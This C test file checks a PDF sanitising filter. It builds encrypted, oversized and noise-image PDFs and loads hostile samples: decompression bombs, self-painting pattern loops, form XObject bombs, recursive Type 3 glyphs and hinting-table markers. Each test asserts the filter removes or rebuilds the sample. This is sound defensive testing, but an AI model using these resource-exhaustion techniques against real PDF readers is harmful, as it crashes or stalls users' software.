/* MD5 of the concatenated PARTS (pointer, length pairs, NULL-terminated). */
static void
md5 (guchar digest[16], ...)
{
  g_autoptr (GChecksum) sum = g_checksum_new (G_CHECKSUM_MD5);
  gsize len = 16;
  va_list args;

  va_start (args, digest);
  for (const guchar *p; (p = va_arg (args, const guchar *)) != NULL;)
    g_checksum_update (sum, p, va_arg (args, gsize));
  va_end (args);
  g_checksum_get_digest (sum, digest, &len);
}

static void
padded (const char *password, guchar out[32])
{
  gsize n = MIN (strlen (password), 32);

  memcpy (out, password, n);
  memcpy (out + n, password_padding, 32 - n);
}

static char *
hex (const guchar *data, gsize len)
{
  GString *s = g_string_new ("<");

  for (gsize i = 0; i < len; i++)
    g_string_append_printf (s, "%02x", data[i]);
  g_string_append_c (s, '>');
  return g_string_free (s, FALSE);
}

/* A one-page PDF encrypted with the standard security handler, revision 2
 * (RC4, 40 bits), with passwords USER (may be "") and OWNER. */
static GBytes *
encrypted_pdf (const char *user, const char *owner)
{
  static const guchar id[16] = "mugai-test-id-01";
  guchar user_pad[32], owner_pad[32], digest[16], o[32], u[32], key[5], object_key[16];
  const guchar p[4] = { 0xfc, 0xff, 0xff, 0xff }; /* /P -4 */

  padded (user, user_pad);
  padded (owner, owner_pad);
  md5 (digest, owner_pad, (gsize) 32, NULL);
  memcpy (o, user_pad, 32);
  rc4 (digest, 5, o, 32);
  md5 (digest, user_pad, (gsize) 32, o, (gsize) 32, p, (gsize) 4, id, (gsize) 16, NULL);
  memcpy (key, digest, 5);
  memcpy (u, password_padding, 32);
  rc4 (key, 5, u, 32);
  /* the content stream is object 4, generation 0 */
  md5 (object_key, key, (gsize) 5, (const guchar *) "\x04\0\0\0\0", (gsize) 5, NULL);
  g_autofree guchar *content = (guchar *) g_strdup (
      "BT /F1 18 Tf 50 700 Td (VISIBLE-LOCKED) Tj ET");
  gsize content_len = strlen ((char *) content);
  rc4 (object_key, 10, content, content_len);

  TestPdf *tp = tp_new ();
  g_autofree char *o_hex = hex (o, 32);
  g_autofree char *u_hex = hex (u, 32);
  g_autofree char *id_hex = hex (id, 16);
  tp_page (tp, "unused", "", "");
  tp_stream (tp, 4, "", content, content_len); /* replaces the clear one */
  tp_obj (tp, 6, "<< /Filter /Standard /V 1 /R 2 /O %s /U %s /P -4 >>", o_hex, u_hex);
  g_autofree char *trailer = g_strdup_printf ("/Root 1 0 R /Encrypt 6 0 R /ID [%s %s]", id_hex,
                                              id_hex);
  return tp_finish (tp, trailer);
}

static void
test_user_password_withheld (void)
{
  g_autoptr (GBytes) pdf = encrypted_pdf ("user-secret", "owner-secret");
  MgFilterResult r;

  run_pdf (pdf, &r);
  g_assert_cmpint (r.action, ==, MG_ACTION_WITHHELD);
  g_assert_cmpint (r.reason, ==, MG_REASON_ENCRYPTED);
  g_assert_null (r.output);
  mg_filter_result_clear (&r);
}

static void
test_owner_password_rebuilt (void)
{
  g_autoptr (GBytes) pdf = encrypted_pdf ("", "owner-secret");

  assert_rebuilt (pdf, "VISIBLE-LOCKED", (const char *[]){ "/Encrypt", NULL });
}

/* --- limits and failures ----------------------------------------------- */

/* LEN bytes of DATA compressed with zlib (/FlateDecode). */
static GBytes *
deflate (const void *data, gsize len)
{
  g_autoptr (GZlibCompressor) z = g_zlib_compressor_new (G_ZLIB_COMPRESSOR_FORMAT_ZLIB, 9);
  g_autoptr (GOutputStream) mem = g_memory_output_stream_new_resizable ();
  g_autoptr (GOutputStream) out = g_converter_output_stream_new (mem, G_CONVERTER (z));

  g_assert_true (g_output_stream_write_all (out, data, len, NULL, NULL, NULL));
  g_assert_true (g_output_stream_close (out, NULL, NULL));
  return g_memory_output_stream_steal_as_bytes (G_MEMORY_OUTPUT_STREAM (mem));
}

/* A 2000 x 2000 grey image of 4 MB that deflates to a few kB: slow to draw
 * (poppler inflates it on every page that shows it), small once drawn. */
static void
tp_heavy_image (TestPdf *tp, guint num)
{
  g_autofree guchar *pixels = g_malloc0 (2000 * 2000);
  g_autoptr (GBytes) packed = deflate (pixels, 2000 * 2000);
  gsize len;
  const void *data = g_bytes_get_data (packed, &len);

  tp_stream (tp, num,
             "/Type /XObject /Subtype /Image /Width 2000 /Height 2000 "
             "/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode",
             data, len);
}

/* PAGES pages of SIZE points square, each showing its number (and, with
 * HEAVY, the heavy image at the size of one point). */
static GBytes *
many_pages (guint pages, guint size, gboolean heavy)
{
  TestPdf *tp = tp_new ();
  g_autoptr (GString) kids = g_string_new (NULL);

  for (guint i = 0; i < pages; i++)
    g_string_append_printf (kids, "%u 0 R ", 10 + 2 * i);
  tp_obj (tp, 1, "<< /Type /Catalog /Pages 2 0 R >>");
  tp_obj (tp, 2, "<< /Type /Pages /Kids [%s] /Count %u >>", kids->str, pages);
  tp_obj (tp, 5, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
  if (heavy)
    tp_heavy_image (tp, 6);
  for (guint i = 0; i < pages; i++) {
    g_autofree char *content = g_strdup_printf ("BT /F1 12 Tf 20 20 Td (PAGE-%u) Tj ET%s",
                                                i + 1,
                                                heavy ? " q 1 0 0 1 0 0 cm /Im1 Do Q" : "");
    tp_obj (tp, 10 + 2 * i,
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %u %u] "
            "/Contents %u 0 R /Resources << /Font << /F1 5 0 R >> %s >> >>",
            size, size, 11 + 2 * i, heavy ? "/XObject << /Im1 6 0 R >>" : "");
    tp_stream (tp, 11 + 2 * i, "", content, -1);
  }
  return tp_finish (tp, "/Root 1 0 R");
}

static void
assert_limit (GBytes *pdf, const char *key)
{
  MgFilterResult r;

  run_pdf (pdf, &r);
  g_assert_cmpint (r.action, ==, MG_ACTION_REMOVED);
  g_assert_cmpint (r.reason, ==, MG_REASON_LIMIT);
  g_assert_null (r.output);
  g_test_message ("%s", r.detail);
  if (strstr (r.detail, key) == NULL)
    g_error ("detail \"%s\" does not name %s", r.detail, key);
  mg_filter_result_clear (&r);
}

static void
test_page_count_limit (void)
{
  g_autoptr (GBytes) pdf = many_pages (3, 300, FALSE);

  config->pdf.max_pages = 2;
  assert_limit (pdf, "max_pages");
  config->pdf.max_pages = 3;
  assert_rebuilt (pdf, "PAGE-3", NULL);
}

static void
test_huge_page (void)
{
  g_autoptr (GBytes) pdf = many_pages (1, 14400, FALSE);

  assert_limit (pdf, "max_page_area");
}

static void
test_time_limit (void)
{
  g_autoptr (GBytes) pdf = many_pages (1000, 300, TRUE);

  config->pdf.max_seconds = 1;
  assert_limit (pdf, "max_seconds");
}

/* A page whose image (200 x 200 pixels of colour noise) covers the area
 * [X, Y, X + SIZE, Y + SIZE] points, with TEXT written above it if not NULL. */
static GBytes *
noise_page (double x, double y, double size, const char *text)
{
  TestPdf *tp = tp_new ();
  g_autofree guchar *noise = g_malloc (200 * 200 * 3);
  GRand *rand = g_rand_new_with_seed (42);

  for (gsize i = 0; i < 200 * 200 * 3; i++)
    noise[i] = g_rand_int (rand) & 0xff;
  g_rand_free (rand);
  tp_page (tp, text != NULL ? text : "", "", "");
  g_autofree char *content = g_strdup_printf (
      "q %g 0 0 %g %g %g cm /Im1 Do Q %s%s%s", size, size, x, y,
      text != NULL ? "BT /F1 18 Tf 50 "
                     "800 Td ("
                   : "",
      text != NULL ? text : "", text != NULL ? ") Tj ET" : "");
  tp_obj (tp, 3,
          "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 6 0 R "
          "/Resources << /XObject << /Im1 7 0 R >> /Font << /F1 5 0 R >> >> >>");
  tp_stream (tp, 6, "", content, -1);
  tp_stream (tp, 7,
             "/Type /XObject /Subtype /Image /Width 200 /Height 200 "
             "/ColorSpace /DeviceRGB /BitsPerComponent 8",
             noise, 200 * 200 * 3);
  return tp_finish (tp, "/Root 1 0 R");
}

static gboolean
output_has (const MgFilterResult *r, const char *needle)
{
  return memmem (g_bytes_get_data (r->output, NULL), g_bytes_get_size (r->output), needle,
                 strlen (needle)) != NULL;
}

/* More than 16 KiB once rebuilt. */
static void
test_output_size_limit (void)
{
  g_autoptr (GBytes) pdf = noise_page (100, 300, 400, "VISIBLE-NOISE");

  config->pdf.max_output_size = 16384;
  assert_limit (pdf, "max_output_size");
}

/* Drawn for display (JPEGs re-encoded from pixels, or after image data that
 * cannot be copied), a page that is only an image becomes a JPEG at
 * scan_dpi; with text on it, or with scan_dpi = 0, it stays vectors
 * (lossless pixels). Drawn for printing (the default), the scan keeps its
 * own compression: this Flate image stays Flate. */
static void
test_scanned_page (void)
{
  g_autoptr (GBytes) scan = noise_page (0, 0, 842, NULL);
  g_autoptr (GBytes) with_text = noise_page (0, 0, 842, "VISIBLE-OCR-LAYER");
  MgFilterResult r;

  run_pdf (scan, &r);
  g_assert_cmpint (r.action, ==, MG_ACTION_CONVERTED);
  g_assert_null (strstr (r.detail, "scanned"));
  g_assert_false (output_has (&r, "/DCTDecode"));
  mg_filter_result_clear (&r);
  config->image.reencode = MG_IMAGE_REENCODE_PIXELS;
  run_pdf (scan, &r);
  g_assert_cmpint (r.action, ==, MG_ACTION_CONVERTED);
  g_assert_nonnull (strstr (r.detail, "1 scanned page as images (200 dpi)"));
  g_assert_true (output_has (&r, "/DCTDecode"));
  mg_filter_result_clear (&r);
  run_pdf (with_text, &r);
  g_assert_null (strstr (r.detail, "scanned"));
  g_assert_false (output_has (&r, "/DCTDecode"));
  mg_filter_result_clear (&r);
  config->pdf.scan_dpi = 0;
  run_pdf (scan, &r);
  g_assert_null (strstr (r.detail, "scanned"));
  g_assert_false (output_has (&r, "/DCTDecode"));
  mg_filter_result_clear (&r);
}

static void
test_not_a_pdf (void)
{
  g_autoptr (GBytes) junk = g_bytes_new_static ("%PDF-1.4\nnothing here\n", 22);
  MgFilterResult r;

  run_pdf (junk, &r);
  g_assert_cmpint (r.action, ==, MG_ACTION_REMOVED);
  g_assert_cmpint (r.reason, ==, MG_REASON_CONVERT_FAILED);
  g_assert_nonnull (strstr (r.detail, "poppler"));
  mg_filter_result_clear (&r);
}

/* --- modes ------------------------------------------------------------- */

/* R is a converted PDF of pixels only, stored as ENCODING. */
static void
assert_raster (MgFilterResult *r, const char *encoding)
{
  g_assert_cmpint (r->action, ==, MG_ACTION_CONVERTED);
  g_assert_nonnull (strstr (r->detail, "as images (150 dpi)"));
  assert_clean (r->output, (const char *[]){ "PAYLOAD", "/Font", NULL });
  g_autofree char *text = pdf_text (r->output);
  g_assert_null (strstr (text, "VISIBLE"));
  g_assert_cmpuint (dark_pixels (r->output, 0), >, 100);
  g_assert_true (output_has (r, encoding));
  mg_filter_result_clear (r);
}

/* Raster mode: a text page becomes black and white, a photograph a JPEG. */
static void
test_raster_mode (void)
{
  g_autoptr (GBytes) text_page = form_pdf ();
  g_autoptr (GBytes) photo = noise_page (100, 300, 400, "VISIBLE-PHOTO");
  MgFilterResult r;

  config->pdf.mode = MG_PDF_MODE_RASTER;
  run_pdf (text_page, &r);
  assert_raster (&r, "/BitsPerComponent 1");
  run_pdf (photo, &r);
  assert_raster (&r, "/DCTDecode");
}

static void
test_annotations_none (void)
{
  g_autoptr (GBytes) pdf = form_pdf ();
  MgFilterResult r;

  config->pdf.annotations = MG_PDF_ANNOTATIONS_NONE;
  run_pdf (pdf, &r);
  g_assert_cmpint (r.action, ==, MG_ACTION_CONVERTED);
  g_autofree char *text = pdf_text (r.output);
  g_assert_nonnull (strstr (text, "VISIBLE-FORM"));
  g_assert_null (strstr (text, "FIELD-VALUE"));
  mg_filter_result_clear (&r);
}

/* Pages keep their size and orientation (a /Rotate 90 page comes out turned). */
static void
test_page_geometry (void)
{
  TestPdf *tp = tp_new ();

  tp_page (tp, "VISIBLE-ROTATED", "", "/Rotate 90 /CropBox [0 0 500 800]");
  g_autoptr (GBytes) pdf = tp_finish (tp, "/Root 1 0 R");
  MgFilterResult r;
  double w, h;

  run_pdf (pdf, &r);
  PopplerDocument *doc = open_pdf (r.output);
  PopplerPage *page = poppler_document_get_page (doc, 0);
  poppler_page_get_size (page, &w, &h);
  g_assert_cmpfloat_with_epsilon (w, 800, 0.01);
  g_assert_cmpfloat_with_epsilon (h, 500, 0.01);
  g_object_unref (page);
  g_object_unref (doc);
  mg_filter_result_clear (&r);
}

/* THREATS 67: the rebuilt PDF rebuilt again is the same bytes. */
static void
test_second_pass_identical (void)
{
  g_autoptr (GBytes) base = cairo_japanese_pdf (JAPANESE_TEXT);
  g_autoptr (GBytes) pdf = add_hostile_update (base);
  MgFilterResult first, second;

  run_pdf (pdf, &first);
  run_pdf (first.output, &second);
  g_assert_cmpint (second.action, ==, MG_ACTION_CONVERTED);
  g_assert_cmpuint (g_bytes_get_size (second.output), ==, g_bytes_get_size (first.output));
  g_assert_true (g_bytes_equal (second.output, first.output));
  mg_filter_result_clear (&first);
  mg_filter_result_clear (&second);
}

/* --- the renderer's own budget (a child per PDF) ---------------------- */

/* Sample NAME of test/gen/hostile_pdf.py, which writes them all at the first call. */
static GBytes *
hostile_pdf (const char *name)
{
  static char *dir;
  g_autoptr (GError) error = NULL;
  g_autofree char *file = g_strconcat (name, ".pdf", NULL);
  gchar *data;
  gsize len;
  int status;

  if (dir == NULL) {
    g_autofree char *gen = g_build_filename (g_getenv ("MUGAI_SRCDIR"), "test", "gen",
                                             "hostile_pdf.py", NULL);
    dir = g_dir_make_tmp ("mugai-hostile-pdf-XXXXXX", &error);
    g_assert_no_error (error);
    const char *argv[] = { "python3", gen, dir, NULL };
    g_assert_true (g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL,
                                 NULL, NULL, &status, &error));
    g_assert_no_error (error);
    g_assert_true (g_spawn_check_wait_status (status, NULL));
  }
  g_autofree char *path = g_build_filename (dir, file, NULL);
  g_assert_true (g_file_get_contents (path, &data, &len, &error));
  return g_bytes_new_take (data, len);
}

/* Images declared 30000 x 30000 (Flate, CCITT G4): the part is removed when
 * the renderer asks for more than [pdf] max_memory, and this process lives. */
static void
assert_memory_limit (const char *name)
{
  g_autoptr (GBytes) pdf = hostile_pdf (name);

  config->pdf.max_memory = 256;
  assert_limit (pdf, "max_memory");
}

static void
test_giant_flate (void)
{
  assert_memory_limit ("giant_flate");
}

static void
test_giant_ccitt (void)
{
  assert_memory_limit ("giant_ccitt");
}

/* A page that never ends (a self-painting pattern at 0.01 point steps, form
 * XObjects drawn 4^13 times) is stopped inside the page at max_seconds. */
static void
assert_time_limit (const char *name)
{
  g_autoptr (GBytes) pdf = hostile_pdf (name);

  config->pdf.max_seconds = 1;
  assert_limit (pdf, "max_seconds");
}

static void
test_pattern_loop (void)
{
  assert_time_limit ("pattern_loop");
}

static void
test_form_bomb (void)
{
  assert_time_limit ("form_bomb");
}

/* A Type 3 glyph that draws itself: the drawing runs out of stack in its
 * child; the part is removed with that reason, this process lives. */
static void
test_type3_recursion (void)
{
  g_autoptr (GBytes) pdf = hostile_pdf ("type3_loop");

  config->pdf.max_seconds = 30;
  assert_limit (pdf, "nests deeper than the renderer's");
}

/* After the hostile ones, an ordinary PDF is still rebuilt. */
static void
test_after_hostile (void)
{
  g_autoptr (GBytes) pdf = hostile_pdf ("type3_loop");
  MgFilterResult r;
  TestPdf *tp = tp_new ();

  run_pdf (pdf, &r);
  mg_filter_result_clear (&r);
  tp_page (tp, "VISIBLE-AFTER-CRASH", "", "");
  g_autoptr (GBytes) plain = tp_finish (tp, "/Root 1 0 R");
  assert_rebuilt (plain, "VISIBLE-AFTER-CRASH", NULL);
}

/* A TrueType font whose fpgm, prep and cvt hold a marker: the rebuilt PDF
 * carries the text (in that font's outlines) but none of the marker. */
static void
test_font_hinting_stripped (void)
{
  g_autoptr (GBytes) pdf = hostile_pdf ("font_hinting");
  const char *marker = "MUGAI-HINTING-MARKER";
  g_autoptr (GString) input = haystack (pdf);
  MgFilterResult r;

  g_assert_nonnull (memmem (input->str, input->len, marker, strlen (marker)));
  assert_rebuilt (pdf, "Hinting tables stripped", (const char *[]){ marker, NULL });
  run_pdf (pdf, &r);
  g_test_message ("%s", r.detail);
  g_assert_nonnull (strstr (r.detail, "1 TrueType font reduced to glyph outlines"));
  g_autoptr (GString) hay = haystack (r.output);
  g_assert_nonnull (memmem (hay->str, hay->len, "glyf", 4)); /* the font is there */
  g_assert_null (memmem (hay->str, hay->len, "fpgm", 4));
  g_assert_null (memmem (hay->str, hay->len, "prep", 4));
  mg_filter_result_clear (&r);
}

static void
test_registry (void)
{
  g_assert_true (mg_filter_registry_find ("application/pdf") == &mg_filter_pdf);
}

static const MgFilterTest tests[] = {
  { "/pdf/openaction-javascript", test_openaction_javascript },
  { "/pdf/names-tree-and-aa", test_names_tree_and_aa },
  { "/pdf/link-actions", test_link_actions },
  { "/pdf/embedded-files", test_embedded_files },
  { "/pdf/acroform-xfa", test_acroform_xfa },
  { "/pdf/multimedia-annotations", test_multimedia_annotations },
  { "/pdf/object-stream-hex-name", test_object_stream_hex_name },
  { "/pdf/older-revision", test_older_revision },
  { "/pdf/polyglot-zip-tail", test_polyglot_zip_tail },
  { "/pdf/japanese-text", test_japanese_text_survives },
  { "/pdf/japanese-font-not-embedded", test_japanese_font_not_embedded },
  { "/pdf/user-password-withheld", test_user_password_withheld },
  { "/pdf/owner-password-rebuilt", test_owner_password_rebuilt },
  { "/pdf/page-count-limit", test_page_count_limit },
  { "/pdf/huge-page", test_huge_page },
  { "/pdf/time-limit", test_time_limit },
  { "/pdf/output-size-limit", test_output_size_limit },
  { "/pdf/not-a-pdf", test_not_a_pdf },
  { "/pdf/scanned-page", test_scanned_page },
  { "/pdf/raster-mode", test_raster_mode },
  { "/pdf/annotations-none", test_annotations_none },
  { "/pdf/page-geometry", test_page_geometry },
  { "/pdf/second-pass-identical", test_second_pass_identical },
  { "/pdf/registry", test_registry },
  { "/pdf/memory-limit/giant-flate-image", test_giant_flate },
  { "/pdf/memory-limit/giant-ccitt-image", test_giant_ccitt },
  { "/pdf/time-limit-in-page/pattern-loop", test_pattern_loop },
  { "/pdf/time-limit-in-page/form-bomb", test_form_bomb },
  { "/pdf/font-hinting-stripped", test_font_hinting_stripped },
  { "/pdf/type3-recursion", test_type3_recursion },
  { "/pdf/after-hostile", test_after_hostile },
};

int
main (int argc, char **argv)
{
  return run_filter_tests (argc, argv, &mg_filter_pdf, tests, G_N_ELEMENTS (tests));
}
